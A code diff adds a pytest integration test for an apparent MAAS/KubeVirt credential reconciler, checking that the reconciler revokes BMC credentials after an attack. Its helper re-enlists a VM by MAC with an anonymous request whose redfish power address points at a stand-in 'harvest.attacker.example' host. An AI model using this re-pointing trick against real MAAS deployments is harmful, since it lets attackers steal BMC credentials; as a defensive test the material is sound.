@@ -1068,6 +1068,80 @@ def test_the_running_loop_takes_back_what_a_power_type_switch_kept_within_one_cy
     assert f"rotate {serial}" in logged     # no cluster access here: the command is named
 
 
+# --- a VM's machine on any name, in any pool, is still the VM's (issue 41 item 3) ---------------
+
+
+def re_point_by_mac(real_maas, namespace: str, mac: str) -> None:
+    """MAC enlistment with a harvesting address of the case's own and MAAS's usual user."""
+    answer = real_maas.api("POST", "machines/", {
+        "architecture": "amd64/generic", "mac_addresses": mac, "power_type": "redfish",
+        "power_parameters": json.dumps({"power_address": f"{namespace}.harvest.attacker.example",
+                                        "power_user": "maas", "node_id": "1"})}, anonymous=True)
+    assert answer.status_code == 200, answer.text
+
+
+TAKE_BACK_ATTACKS = ("re-point", "webhook-by-mac")
+
+
+@pytest.mark.parametrize("how", [TAKE_BACK_ATTACKS[0], pytest.param(TAKE_BACK_ATTACKS[1], marks=PINNED_ONLY)])
+@pytest.mark.parametrize("filed", ["fallback", pytest.param("skip", marks=PINNED_ONLY),
+                                   pytest.param("outside-pool", marks=PINNED_ONLY)])
+def test_a_reconciler_without_the_audit_log_takes_back_a_vms_credentials_on_any_name(real_maas, site, tmp_path,
+                                                                                     filed, how):
+    """web1's machine filed on its fallback name (web1-<ns> held by an administrator's machine), left
+    unrenamed (maas.on_hostname_taken: skip), or left outside its pool (an administrator's pool named
+    <ns>); the reconciler that set its credentials is gone with its audit log. Attacked while none
+    runs, a fresh reconciler's first cycle takes them back; attacked after such a restart, its next."""
+    namespace = f"tb-{filed[:4]}-{how[:4]}"
+    skip = {"on_hostname_taken": "skip"} if filed == "skip" else {}
+    if filed == "outside-pool":
+        made = real_maas.api("POST", "resourcepools/", {"name": namespace, "description": "an administrator's"})
+        assert made.status_code == 200, made.text
+    else:
+        real_maas.admin_add_machine(new_mac(), hostname=f"web1-{namespace}")
+    serial, mac, vm = enlist_by_mac(real_maas, site, tmp_path, namespace, "New")
+    first = reconciler(real_maas, site, RecordingAudit(), commission="never", **skip)
+    first.cycle()
+    machine = real_maas.machine(vm.system_id)
+    expected = {"fallback": (identity.fallback_hostname("web1", namespace), namespace),
+                "outside-pool": (f"web1-{namespace}", "default")}.get(filed)
+    if expected:
+        assert (machine["hostname"], machine["pool"]["name"]) == expected
+    else:
+        assert machine["hostname"] not in (f"web1-{namespace}", identity.fallback_hostname("web1", namespace))
+    assert derived_holders(real_maas, serial) == {vm.system_id: {"power_user", "power_pass"}}
+
+    def attack() -> None:
+        if how == "re-point":
+            re_point_by_mac(real_maas, namespace, mac)
+        else:
+            switch_power_type(real_maas, how, namespace, mac)
+        assert vm.system_id in derived_holders(real_maas, serial)   # MAAS kept the password
+
+    attack()   # while no reconciler runs
+    audit = RecordingAudit()
+    reconciler(real_maas, site, audit, commission="never", **skip).cycle()
+    assert derived_holders(real_maas, serial) == {}
+    assert [(r["system_id"], r["outcome"], r["leak"], r["identity"]) for r in audit.records
+            if r["action"] == "reset-password"] == [(vm.system_id, "ok", True, serial)]
+
+    # The VM enlists again (its script writes its redfish BMC back); a restart with an empty audit
+    # log gives it its credentials, then the attack comes while that reconciler runs.
+    put_back = real_maas.api("PUT", f"machines/{vm.system_id}/", {
+        "power_type": "redfish", "power_parameters_power_address": f"web1.{namespace}.{DOMAIN}",
+        "power_parameters_power_user": identity.ENLIST_USER_PREFIX + "e" * 32,
+        "power_parameters_power_pass": identity.PLACEHOLDER_PASSWORD, "power_parameters_node_id": "1"})
+    assert put_back.status_code == 200, put_back.text
+    restarted = reconciler(real_maas, site, RecordingAudit(), commission="never", **skip)
+    restarted.cycle()
+    assert derived_holders(real_maas, serial) == {vm.system_id: {"power_user", "power_pass"}}
+    fresh = reconciler(real_maas, site, RecordingAudit(), commission="never", **skip)
+    fresh.cycle()     # knows the machine by its converged credentials alone
+    attack()
+    fresh.cycle()
+    assert derived_holders(real_maas, serial) == {}
+
+
 # --- a guest that powers itself off (enlistment's and commissioning's end) ---------------------
 # The stand-in models KubeVirt behind kubevirtBMC (tests/kubevirt_bmc.py): the runStrategy, the
 # instance's phase and KubeVirt v1.7.0's VM controller; the control-plane tier runs the rule itself.
